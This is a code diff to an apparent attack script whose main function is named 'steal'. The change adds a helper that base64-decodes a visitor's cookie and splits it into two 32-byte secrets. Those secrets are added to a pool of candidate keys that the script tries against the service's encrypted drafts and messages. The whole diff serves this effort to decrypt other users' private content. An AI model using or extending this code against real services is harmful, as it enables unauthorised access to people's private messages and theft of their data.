@@ -53,6 +53,12 @@ def secrets_in(folder: Path) -> list[bytes]:
     return list(dict.fromkeys(each for each in found if each))
 
 
+def halves_of(cookie: str) -> tuple[bytes, bytes]:
+    """Return the two secrets of a visitor's cookie; its signature is no secret of theirs."""
+    both = urlsafe_b64decode(cookie.partition(".")[0])
+    return both[:32], both[32:]
+
+
 def keys_from(secrets: list[bytes], row: str, salts: list[bytes]) -> Iterator[bytes]:
     """Yield candidates for a draft's key: each secret as it is, hashed, and derived as the service derives one."""
     for secret in (*secrets, *GUESSES, row.encode(), urlsafe_b64decode(row)):
@@ -90,7 +96,7 @@ def opens_message(body: str, key: Any) -> bool:
 
 def steal(folder: Path, cookies: list[str], private: Path | None) -> dict[str, int]:
     """Try everything, and return how many drafts and messages there were, what was tried, and what was opened."""
-    secrets = [*secrets_in(folder), *(urlsafe_b64decode(cookie) for cookie in cookies)]
+    secrets = [*secrets_in(folder), *(secret for cookie in cookies for secret in halves_of(cookie))]
     pepper = (folder / "pepper").read_bytes()
     jwks = [ECKey.import_key(json.loads(path.read_text())) for path in sorted(folder.rglob("*.json"))]
     if private:
